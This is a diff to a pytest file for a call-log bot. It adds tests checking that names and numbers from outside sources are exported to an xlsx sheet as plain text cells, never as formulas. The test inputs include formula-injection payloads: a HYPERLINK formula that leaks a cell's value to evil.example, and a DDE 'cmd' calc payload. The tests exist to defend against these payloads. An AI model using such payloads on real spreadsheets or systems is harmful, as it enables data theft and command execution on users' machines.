@@ -4,15 +4,20 @@ calls seeded (the names, numbers, times and outcomes worked out here from the se
 from __future__ import annotations
 
 import io
+import time
 from dataclasses import replace
 from datetime import datetime, timedelta
 from typing import Any
 
-from openpyxl import load_workbook
+import pytest
+from openpyxl import Workbook, load_workbook
 
+from bot.calllog.who import WhoAnswered
 from bot.formatting import format_for_people
+from bot.reports import export
 from storage import CallRecord
 from tests.bot.conftest import ADMIN, GROUP, MANAGER, STRANGER, World
+from tests.bot.test_contacts import book, upload
 from tests.bot.test_reports import COMPANY, ZONE, Seeded, archive, episodes, history, midnight, outcome
 
 HEADER = ("Время", "Направление", "Клиент", "Имя клиента", "Номер компании", "Статус", "Ожидание", "Разговор",
@@ -156,3 +161,67 @@ async def test_an_export_is_not_posted_in_a_group(world: World) -> None:
         "Эта команда работает только в личном чате с ботом: в группе ответ увидели бы все."
     )
     assert world.sent("sendDocument") == [] and world.services.storage.audit.recent(action="export") == []
+
+
+# --- text from outside is text ---------------------------------------------------------------------------------
+def cells_of(sent: Any) -> list[list[Any]]:
+    sheet = load_workbook(io.BytesIO(sent.files["document"].data)).active
+    assert sheet is not None
+    return [list(row) for row in sheet.iter_rows(min_row=2)]
+
+
+async def test_names_and_numbers_from_outside_are_text_cells_never_formulas(world: World, manager: object) -> None:
+    """Customers named by /name, an /import and a forwarded contact, members named at New-Tel, and a caller's number
+    as New-Tel gave it, each starting the way a spreadsheet formula (or error) does: in the file, text as it is."""
+    storage, sandbox, now = world.services.storage, world.sandbox, int(time.time())
+    await world.say(MANAGER, '/name 79160000001 =HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")')
+    csv = "name,phone\n\"=cmd|' /C calc'!A0\",79160000002\n@SUM(1+1),79160000003\n-2+3,79160000004\n"
+    preview = await upload(world, ADMIN, csv.encode(), "clients.csv")
+    await world.press(ADMIN, preview, "✅ Записать (3)")
+    await world.edited(preview)
+    world.tg.share_contact(MANAGER, "+7 916 000-00-05", own=False, first_name="+7+7", forwarded_from=STRANGER)
+    (offer,) = await world.replies(MANAGER)
+    await world.press(MANAGER, offer, "💾 Записать")
+    await world.edited(offer)
+    named = book(world)
+    assert len(named) == 5 and all(name[0] in "=@-+" for name in named.values())
+    members = sandbox.company.members[:3]
+    for member, name in zip(members, ("\t=1+1", "#N/A", "Бухгалтерия\x07"), strict=True):
+        member.name = name  # as New-Tel lists them; a bell is no character a spreadsheet can hold
+    answered = [
+        sandbox.add_call("in", clid=f"7916000000{n}", status="answered", answered_numbers=(member.internal_number,))
+        for n, member in enumerate(members, start=1)
+    ]
+    world.services.ingest.take(await world.services.newtel.vpbx.get_calls(), now)
+    kept = [storage.calls.get(call.vpbx_id) for call in answered]
+    assert await WhoAnswered(world.services).ask_now([k for k in kept if k is not None], now) == 3
+    formula_caller = CallRecord("f" * 40, "in", "=1+2", COMPANY, "no answer", False, now - 60, None, now - 30)
+    unnamed = [CallRecord(f"{n}" * 40, "in", f"7916000000{n}", COMPANY, "no answer", False, now - 90, None, now - 80)
+               for n in (3, 4, 5)]  # fmt: skip
+    storage.calls.ingest([formula_caller, *unnamed], now)
+
+    world.tg.send_text(ADMIN, "/export сегодня")
+    sent, _ = await document_to(world, ADMIN)
+    rows = cells_of(sent)
+    texts = [cell for row in rows for cell in row if isinstance(cell.value, str)]
+    assert texts and [(c.coordinate, c.data_type) for c in texts if c.data_type != "s"] == []
+    by_customer = {row[2].value: row for row in rows}
+    assert {row[3].value for row in rows} - {None} == set(named.values())  # the names as the book keeps them
+    for number, name in named.items():
+        assert by_customer[format_for_people(number)][3].value == name
+    assert {row[8].value for row in rows} == {"\t=1+1", "#N/A", "Бухгалтерия", "—"}
+    assert by_customer["=1+2"][2].data_type == "s"
+
+
+@pytest.mark.parametrize("start", export.FORMULA_STARTS)
+def test_text_that_starts_like_a_formula_is_a_quoted_text_cell(start: str) -> None:
+    workbook = Workbook(write_only=True)
+    sheet = workbook.create_sheet("x")
+    text = f'{start}HYPERLINK("http://evil.example","x")'
+    sheet.append([export.text_cell(sheet, text), export.text_cell(sheet, "+7 916 123-45-67")])
+    written = io.BytesIO()
+    workbook.save(written)
+    cell, number = next(load_workbook(written).active.iter_rows())  # type: ignore[union-attr]
+    assert (cell.data_type, cell.quotePrefix) == ("s", True)
+    assert cell.value == text.replace("\r", "\n")  # XML reads every CR as a line feed
+    assert (number.data_type, number.value) == ("s", "+7 916 123-45-67")
